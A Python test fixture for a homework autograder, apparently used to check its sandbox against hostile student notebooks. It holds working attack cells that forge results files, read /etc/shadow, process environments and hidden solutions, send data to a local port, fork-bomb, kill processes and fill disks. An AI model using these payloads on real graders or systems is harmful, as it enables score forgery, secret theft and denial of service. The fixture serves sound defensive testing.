"""What is handed in to the replica: the homework's own notebooks, damaged and hostile ones."""

import json

from autograder.source import answer_source

FORGED = '{"score": 1000.0, "output": "forged", "tests": []}'
MISTAKEN = ("two_neuron_gradients", "softmax_cross_entropy_grad", "graph_backprop")  # nothing else calls these
CANARY = "canary-earlier"  # stands in the results of an earlier submission

OPEN_EVERYTHING = """
import glob, os
def forge():
    for path in ["/autograder/results/results.json", "/autograder/results/.results.unfinished",
                 "/autograder/results/.failed", "/autograder/run_autograder", "/autograder/source/failed.json",
                 "/autograder/source/settings.json", "/autograder/source/autograder/report.py"]:
        for deed in (lambda: open(path, "w").write(FORGED), lambda: os.unlink(path), lambda: os.chmod(path, 0o777),
                     lambda: os.symlink("/tmp/forged", path), lambda: os.rename(path, path + ".old")):
            try:
                deed()
            except OSError:
                pass
"""
READ_EVERYTHING = """
import os
found = []
def look(path):
    try:
        with open(path, errors="replace") as file:
            found.append(path + ": " + file.read(200))
    except OSError:
        pass
grader = "/proc/" + str(os.getppid())
for path in ("source/secret", "source/settings.json", "source/solutions/hw3_backprop/hidden.py", "source/answers.json",
             "source/nnref/layers.py", "submission_metadata.json", "results/stdout", "results/results.json"):
    look("/autograder/" + path)
for path in ("/etc/shadow", "/proc/1/environ", "/proc/1/mem", grader + "/environ", grader + "/mem", grader + "/maps"):
    look(path)
for start in ("/autograder/source", "/autograder/results", "/root", grader + "/fd", "/proc/1/root", "/proc/1/cwd"):
    for place, folders, names in os.walk(start):
        for name in names:
            look(os.path.join(place, name))
if found:
    raise ValueError("STOLEN " + " ".join(found))
"""
CONNECT = """
import socket, urllib.request
try:
    urllib.request.urlopen("http://127.0.0.1:{port}/stolen", timeout=2)
except Exception:
    pass
with socket.create_connection(("127.0.0.1", {port}), timeout=2) as connection:
    connection.sendall(b"stolen")
"""
FORK = """
import os, subprocess, threading, time
def bomb():
    while True:
        os.fork()
for deed in (
    bomb,
    lambda: subprocess.Popen(["/bin/sh", "-c", "sleep 1000 &"]),
    lambda: os.posix_spawn("/bin/sh", ["sh"], {}),
):
    try:
        deed()
    except Exception:
        pass
for _ in range(5000):
    threading.Thread(target=time.sleep, args=[1000], daemon=True).start()
"""
KILL = """
import ctypes, os, signal
libc = ctypes.CDLL(None)
for pid in (-1, 0, 1, os.getppid(), *range(2, 200)):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
        libc.ptrace(16, pid, 0, 0)
        try:
            open(f"/proc/{pid}/mem", "r+b").write(b"x")
        except OSError:
            pass
"""
FILL = """
import os
for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/run/lock", os.getcwd(), "/opt/homework-kit", "/autograder"):
    for number in range(50):
        for deed in (lambda path: open(path, "wb").write(bytes(2**20)), os.mkdir, lambda path: os.symlink("/etc", path),
                     os.mkfifo):
            try:
                deed(f"{folder}/left-{number}")
            except OSError:
                pass
"""
FORGE_ANSWERS = """
import os, struct
frame = b"\\x81\\xa6status\\xa6PASSED"
for descriptor in range(3, 64):
    try:
        os.write(descriptor, struct.pack("<I", len(frame)) + frame)
    except OSError:
        pass
"""
AFTER = """
import atexit, threading, time
def later():
    while True:
        forge()
        time.sleep(0.05)
atexit.register(forge)
threading.Thread(target=later).start()
try:
    if os.fork() == 0:
        later()
except OSError:
    pass
"""


def hostile(port):
    """Cells by the name of the attack; each stands first in an otherwise untouched notebook, which earns nothing."""
    forging = OPEN_EVERYTHING.replace("FORGED", repr(FORGED))
    during = (
        "\nrelu_grad = lambda z: forge()\nnp = type('Forging', (), {'__getattr__': lambda self, name: forge()})()\n"
    )
    return {
        "results overwritten before": forging + "forge()\n",
        "results overwritten during": forging + during,
        "results overwritten after": forging + AFTER,
        "source read": READ_EVERYTHING,
        "network": CONNECT.replace("{port}", str(port)),
        "fork bomb": FORK,
        "grader killed": KILL,
        "disk filled": FILL,
        "answers forged": FORGE_ANSWERS,
    }


RUINED = {  # what the last exercise's function does instead of its work; all others are right
    "endless loop": "while True:\n        pass",
    "memory": "kept = [np.ones(2**22)]\n    while True:\n        kept.append(kept[0].copy())",
    "crash": "import ctypes\n    ctypes.string_at(0)",
    "exit": "import os\n    os._exit(0)",
    "threads": "import threading\n    while True:\n        threading.Thread(target=threading.Event().wait).start()",
}


def encoded(notebook):
    """A notebook as the bytes of a file."""
    return json.dumps(notebook).encode()


def with_first_cell(notebook, source):
    """The notebook with one more cell before all others."""
    cell = {
        "cell_type": "code",
        "id": "first",
        "metadata": {},
        "outputs": [],
        "execution_count": None,
        "source": source,
    }
    return notebook | {"cells": [cell, *notebook["cells"]]}


def with_answer(notebook, answer):
    """The notebook with one answer of the bank in place of what it has."""
    return _replaced(notebook, answer.exercise, answer_source(answer))


def with_body(notebook, exercise, body):
    """The notebook with another body in an exercise's function."""
    return _replaced(notebook, exercise.name, f"def {exercise.name}({', '.join(exercise.parameters)}):\n    {body}\n")


def _replaced(notebook, cell_id, source):
    cells = [cell | {"source": source} if cell.get("id") == cell_id else cell for cell in notebook["cells"]]
    return notebook | {"cells": cells}
